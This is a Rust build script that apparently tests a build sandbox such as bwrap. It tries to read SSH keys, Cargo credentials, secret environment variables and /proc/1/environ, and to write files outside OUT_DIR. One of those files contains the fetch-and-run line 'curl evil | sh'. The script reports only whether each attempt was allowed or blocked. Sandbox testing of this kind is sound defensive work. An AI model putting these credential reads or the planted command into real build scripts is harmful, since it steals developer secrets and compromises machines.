// Looks for secrets and tries to leave traces outside OUT_DIR. It never prints what it finds.
use std::{env, fs, path::PathBuf};

fn report(what: &str, ok: Result<(), String>) {
    match ok {
        Ok(()) => println!("cargo::warning=[ALLOWED] {what}"),
        Err(e) => println!("cargo::warning=[blocked] {what}: {e}"),
    }
}

fn main() {
    let home = PathBuf::from(env::var("HOME").unwrap_or_default());
    report("read ~/.ssh/id_ed25519", fs::read(home.join(".ssh/id_ed25519")).map(|_| ()).map_err(|e| e.to_string()));
    report("read ~/.cargo/credentials.toml",
        fs::read(home.join(".cargo/credentials.toml")).map(|_| ()).map_err(|e| e.to_string()));
    for key in ["DEMO_API_TOKEN", "AWS_SECRET_ACCESS_KEY"] {
        report(&format!("see ${key}"), env::var(key).map(|_| ()).map_err(|_| "not in the environment".into()));
    }
    report("read another process's environment (/proc/1/environ)",
        fs::read_to_string("/proc/1/environ").map_err(|e| e.to_string())
            .and_then(|s| if s.contains("DEMO_API_TOKEN") { Ok(()) } else { Err("no secrets there".into()) }));
    let src = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap());
    report("write into its own source dir", fs::write(src.join("planted.rs"), "// planted").map_err(|e| e.to_string()));
    report("write ~/.bashrc-planted (bwrap gives a throwaway $HOME)", fs::write(home.join(".bashrc-planted"), "curl evil | sh").map_err(|e| e.to_string()));
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    report("write into OUT_DIR", fs::write(out.join("ok.txt"), "fine").map_err(|e| e.to_string()));
}
